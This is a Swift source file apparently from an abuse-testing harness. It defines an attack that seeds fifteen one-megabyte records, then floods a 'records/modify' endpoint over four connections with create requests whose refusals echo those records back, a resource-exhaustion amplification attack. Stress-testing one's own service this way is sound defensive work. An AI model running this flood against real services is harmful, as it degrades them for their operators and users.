import System

/// Refused writes under ever new names, each of which would keep fifteen large records in its answer.
struct KeptAnswers: Attack {
    let name = "kept"
    private static let recordsCount = 15

    func prepare(_ abuser: Abuser) throws {
        let text = String(repeating: "x", count: 1_000_000)
        for number in 0..<Self.recordsCount {
            let record =
                #""recordName":"kept\#(number)","recordType":"Kept","fields":{"b":{"value":"\#(text)"}}"#
            let operation = #"{"operationType":"forceUpdate","record":{\#(record)}}"#
            try abuser.save("records/modify", Abuser.modify([operation]))
        }
    }

    func begin(_ abuser: Abuser) -> [Flood] {
        let operations = (0..<Self.recordsCount).map {
            #"{"operationType":"create","record":{"recordName":"kept\#($0)","recordType":"Kept","fields":{}}}"#
        }
        let body = Array(#"{"atomic":false,"operations":[\#(operations.joined(separator: ","))]}"#.utf8)
        return [
            Flood(abuser, connections: 4) {
                abuser.requests.database(
                    "records/modify", body, from: abuser.user, operation: abuser.random.nextUUID())
            }
        ]
    }
}
